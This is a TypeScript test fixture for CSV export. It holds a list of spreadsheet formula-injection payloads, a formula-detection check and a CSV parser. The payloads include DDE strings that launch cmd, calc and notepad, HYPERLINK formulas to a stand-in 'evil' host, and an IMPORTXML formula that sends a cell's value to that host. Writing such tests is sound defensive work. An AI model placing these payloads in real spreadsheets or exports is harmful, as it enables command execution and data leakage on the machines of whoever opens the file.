/** Spreadsheet formula injection payloads (OWASP "CSV injection" and the issue 38 review), for export tests. */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil","x")',
  '=1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-1+1',
  '-1-HYPERLINK("http://evil","x")',
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\t-1+1',
  "=cmd|' /C notepad'!'A1'",
  '＝HYPERLINK("http://evil","x")',
  '=IMPORTXML(CONCAT("http://evil/?v=", A1), "//a")',
];

/** Plain numbers a spreadsheet reads as numbers: they must reach it unchanged. */
export const PLAIN_NUMBER_CELLS = ['-12.5', '1e5', '-1e5', '+5', '-7', '0.25', '-.5', '42'];

/**
 * How a spreadsheet opening a CSV reads a cell: as a formula when it begins with =, +, -, @ (or a full-width
 * form), a tab or a carriage return, and is not a number.
 */
export const spreadsheetRunsAsFormula = (cell: string) =>
  /^[=+\-@\t\r＝＋－＠]/.test(cell) && !Number.isFinite(Number(cell.trim()));

/** The cells of an RFC 4180 CSV text, as a spreadsheet splits it (quoted cells may hold commas, quotes, breaks). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
